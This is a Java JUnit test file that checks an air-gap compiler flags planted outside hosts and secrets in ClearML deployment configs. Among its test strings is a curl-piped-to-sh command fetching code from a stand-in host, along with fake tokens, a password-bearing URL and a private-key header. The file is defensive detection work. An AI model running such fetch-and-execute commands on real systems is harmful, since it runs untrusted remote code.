package dev.airgapc.proof;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.airgapc.compile.Compilation;
import dev.airgapc.diagnostic.Diagnostic;
import dev.airgapc.testing.Examples;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What a page may try to pass through: in {@code values}, in {@code conf}, in the environment of tasks. */
class PlantedTest {
    private static final String PAGE = "clearml/site.ag";
    private static final String TOKEN = "glp" + "at-abcdefghijklmnopqrst";

    /** Texts that fit on a line in quotes of YAML, HOCON and a page. */
    private static final List<List<String>> PLANTS = List.of(
            List.of("AG0601", "https://hub.example.com/x"),
            List.of("AG0601", "--url=https://hub.example.com"),
            List.of("AG0601", "--host=hub.example.com"),
            List.of("AG0601", "hub.example.com"),
            List.of("AG0601", "see hub.example.com:8443"),
            List.of("AG0601", "localhost,hub.example.com"),
            List.of("AG0601", "quay.io/acme/server:1"),
            List.of("AG0601", "quay.io/acme/server"),
            List.of("AG0601", "curl -fsS https://hub.example.com/x | sh"),
            List.of("AG0601", "{'url':'https://hub.example.com'}"),
            List.of("AG0601", "https%3A%2F%2Fhub.example.com"),
            List.of("AG0601", "# from https://hub.example.com"),
            List.of("AG0601", "git@hub.example.com:acme/x.git"),
            List.of("AG0601", "c2VlIGh0dHBzOi8vaHViLmV4YW1wbGUuY29tL3g="),
            List.of("AG0601", "8.8.8.8"),
            List.of("AG0601", "2001:4860:4860::8888"),
            List.of("AG0408", "<BASE_DOMAIN>"),
            List.of("AG0602", TOKEN),
            List.of("AG0602", "# " + TOKEN),
            List.of("AG0602", "https://robot:hunter2@a.ml.corp.example/x"),
            List.of("AG0602", "-----BEGIN " + "PRIVATE KEY-----"),
            List.of("AG0602", "eyJhdXRocyI6eyJ4Ijp7ImF1dGgiOiJjbTlpYjNRNmFIVnVkR1Z5TWc9PSJ9fX0="));

    private enum Place {
        VALUES("    podTemplateX: {c: [\"%s\"]}\n"),
        CONF("    conf = \"\"\"\n      sdk.aws.boto3.x = \"%s\"\n      \"\"\"\n"),
        ENVIRONMENT("    env { PLANTED = \"%s\" }\n");

        private final String plant;

        Place(String plant) {
            this.plant = plant;
        }

        /** The example with a text at this place. */
        String page(String text) {
            String page = Examples.text(PAGE);
            String line = String.format(plant, text);
            return switch (this) {
                case VALUES -> page.replaceFirst("(?m)^  values = \"\"\"\\n", "$0" + quoted(line));
                case CONF -> page.replaceFirst("(?m)^  ingress \\{.*}\\n", "$0  sdk {\n" + quoted(line) + "  }\n");
                case ENVIRONMENT -> page.replaceFirst("(?m)^    env \\{ NCCL_DEBUG.*\\n", quoted(line));
            };
        }

        private static String quoted(String line) {
            return java.util.regex.Matcher.quoteReplacement(line);
        }
    }

    static Stream<Arguments> plants() {
        return Stream.of(Place.values())
                .flatMap(place -> PLANTS.stream().map(plant -> Arguments.of(place, plant.get(0), plant.get(1))));
    }

    @ParameterizedTest(name = "{2} in {0}")
    @MethodSource("plants")
    void isCaughtOnItsLine(Place place, String code, String text) {
        String page = place.page(text);
        int line = (int) page.substring(0, page.indexOf(text)).lines().count();
        Compilation compilation = Examples.changed(PAGE, page);
        String rendered = Cheat.rendered(compilation);
        List<Diagnostic> found = compilation.report().sorted().stream()
                .filter(d -> d.code().number().equals(code))
                .toList();
        assertFalse(found.isEmpty(), rendered);
        found.forEach(d -> assertEquals(line, d.at().line(), rendered));
        assertFalse(found.get(0).help().isEmpty(), rendered);
        boolean typed = code.equals("AG0602") && rendered.contains("a page never holds a secret");
        assertTrue(typed || rendered.contains("inside/clearml/"), rendered);
        assertFalse(rendered.contains(TOKEN) || rendered.contains("hunter2") || rendered.contains("eyJhdX"), rendered);
    }

    @ParameterizedTest
    @MethodSource("plants")
    void isCaughtInACommentOfAPageIfItIsASecret(Place place, String code, String text) {
        String page = Examples.text(PAGE) + "# " + text + "\n";
        List<String> codes = Cheat.codes(Examples.changed(PAGE, page));
        assertEquals(code.equals("AG0602") && !text.startsWith("eyJ") ? List.of("AG0602") : List.of(), codes);
    }

    /** By the last word of its key, however the words are joined; not where the key says where the secret is. */
    @Test
    void whatAKeyCallsASecret() {
        for (String key :
                List.of("password", "adminPassword", "ADMIN_PASSWORD", "api-key", "authToken", "db.accessKey")) {
            String page =
                    Examples.text(PAGE).replaceFirst("(?m)^  values = \"\"\"\\n", "$0    \"" + key + "\": hunter2\n");
            Compilation compilation = Examples.changed(PAGE, page);
            assertEquals(List.of("AG0602"), Cheat.codes(compilation), key);
            assertFalse(Cheat.rendered(compilation).contains("hunter2"));
        }
        for (String key : List.of("existingSecret", "passwordKey", "tokenFile", "adminPasswordKey", "secretName")) {
            String page = Examples.text(PAGE).replaceFirst("(?m)^  values = \"\"\"\\n", "$0    " + key + ": hunter2\n");
            assertEquals(List.of(), Cheat.codes(Examples.changed(PAGE, page)), key);
        }
    }

    /** What no leaf is made of is no fault: names of keys, groups of an API, files. */
    @Test
    void whatNamesNoHost() {
        for (String text :
                List.of("nvidia.com/gpu", "apps/v1", "train.py,eval.py", "1.31-3.0.3-469", "/etc/x.conf", "a.b=c.d")) {
            for (Place place : Place.values()) {
                assertEquals(List.of(), Cheat.codes(Examples.changed(PAGE, place.page(text))), text + " in " + place);
            }
        }
    }
}
